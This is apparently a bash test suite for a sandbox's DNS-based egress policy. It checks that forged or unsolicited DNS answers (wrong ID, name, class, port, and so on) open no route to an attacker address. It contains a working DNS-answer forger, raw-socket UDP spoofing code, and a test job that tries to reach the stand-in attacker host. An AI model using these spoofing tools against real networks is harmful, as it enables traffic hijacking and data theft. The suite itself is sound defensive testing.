# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0
# Forged DNS answers: only an answer to a question that this socket asked may open an address.

# A resolver of the machine's that answers in the form it is told, always with the attacker's address.
forger() {
	cat >"$CASE/forger.py" <<-'END'
	import socket, struct, sys
	ADDRESS = socket.inet_aton("203.0.113.66")
	EVIL = b"\4evil\7example\0"
	shape = sys.argv[1]

	def record(owner, kind, value, group=1):
	    return owner + struct.pack("!HHIH", kind, group, 60, len(value)) + value

	def answer(query):
	    number, body = query[:2], query[12:]
	    a = record(b"\xc0\x0c", 1, ADDRESS)
	    flags, counts, rest = 0x8180, (1, 1, 0, 0), a
	    if shape == "id":
	        number = bytes(b ^ 0xFF for b in number)
	    elif shape == "name":
	        body = EVIL + body[-4:]
	    elif shape == "owner":
	        rest = record(EVIL, 1, ADDRESS)
	    elif shape == "additional":
	        counts = (1, 0, 0, 1)
	    elif shape == "authority":
	        counts = (1, 0, 1, 0)
	    elif shape == "not-an-answer":
	        flags = 0x0100
	    elif shape == "failure":
	        flags = 0x8183
	    elif shape == "class":
	        rest = record(b"\xc0\x0c", 1, ADDRESS, 3)
	    elif shape == "no-question":
	        counts, body = (0, 1, 0, 0), b""
	        rest = record(b"\4feed\7example\0", 1, ADDRESS)
	    elif shape == "beside-an-alias":
	        counts, rest = (1, 2, 0, 0), record(b"\xc0\x0c", 5, b"\5other" + EVIL) + record(EVIL, 1, ADDRESS)
	    elif shape == "long-address":
	        rest = record(b"\xc0\x0c", 1, ADDRESS + b"more")
	    return number + struct.pack("!H", flags) + struct.pack("!4H", *counts) + body + rest

	sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	sock.bind(("192.0.2.54", 53))
	other = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	other.bind({"port": ("192.0.2.54", 5300), "server": ("192.0.2.1", 53)}.get(shape, ("192.0.2.54", 0)))
	open(sys.argv[2], "w").close()
	while True:
	    query, peer = sock.recvfrom(2000)
	    (other if shape in ("port", "server") else sock).sendto(answer(query), peer)
	END
	rm -f "$CASE/ready"
	$OUTSIDE "$PYTHON" "$CASE/forger.py" "$1" "$CASE/ready" &
	FORGER=$!
	wait_until 10 test -e "$CASE/ready" || fail "the forger did not start"
}

forged() {
	attack <<-'END'
	import socket
	import job
	sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	sock.settimeout(0.3 * job.SLOW)
	sock.sendto(job.question("feed.example"), ("192.0.2.54", 53))
	try:
	    sock.recv(2000)
	except TimeoutError:
	    pass
	job.tcp("203.0.113.66", 8080)
	END
	printf 'nameserver %s\nnameserver %s\n' $DNS4 $DNS_FORGER >"$WORLD/resolv.conf"
	policy_feed
	forger "$1"
	guarded -- "${ATTACK[@]}"
	kill $FORGER
	wait $FORGER 2>/dev/null
	printf 'nameserver %s\n' $DNS4 >"$WORLD/resolv.conf"
	arrived "> $DNS_FORGER.53 .*feed.example"
}

test_a_true_answer_opens_its_address() {
	forged true
	status_is 0
	arrived "$SECRET"
}

test_a_forged_answer_opens_nothing() {
	local shape
	for shape in id name owner additional authority not-an-answer class no-question beside-an-alias long-address port server; do
		new_secret
		echo "# shape: $shape"
		forged $shape
		status_is_not 0
		nothing_arrived "$SECRET|$EVIL4"
		recorded DstIpAddr=$EVIL4 Reason=not-allowed
	done
}

# Two questions on one socket, answered once: the second answer is late, and asked for by nobody.
test_an_answer_counts_once_for_the_socket_that_asked() {
	attack <<-'END'
	import socket
	import job
	asker, other = (socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in "ab")
	asker.bind(("192.0.2.2", 5301))
	other.bind(("192.0.2.2", 5302))
	other.settimeout(0.5 * job.SLOW)
	asker.sendto(job.question("feed.example", number=7), ("192.0.2.53", 53))
	print("other heard", other.recv(2000))
	END
	policy_feed
	guarded -- "${ATTACK[@]}" &
	wait_until 5 bash -c "tail -n +$CASE_SNIFFED $WORLD/sniffed | grep -q '5301 > $DNS4.53'" || fail "no question"
	in_outside "$PYTHON" - <<-'END'
	import socket, struct
	raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, 17)
	raw.bind(("192.0.2.53", 0))
	message = (struct.pack("!6H", 7, 0x8180, 1, 1, 0, 0) + b"\4feed\7example\0\0\1\0\1" +
	           b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" + socket.inet_aton("203.0.113.66"))
	raw.sendto(struct.pack("!4H", 53, 5302, 8 + len(message), 0) + message, ("192.0.2.2", 0))
	END
	wait
	! grep -q heard "$CASE/out" || fail "an answer that nobody asked for was heard"
	recorded Reason=inbound SrcIpAddr=$DNS4
}
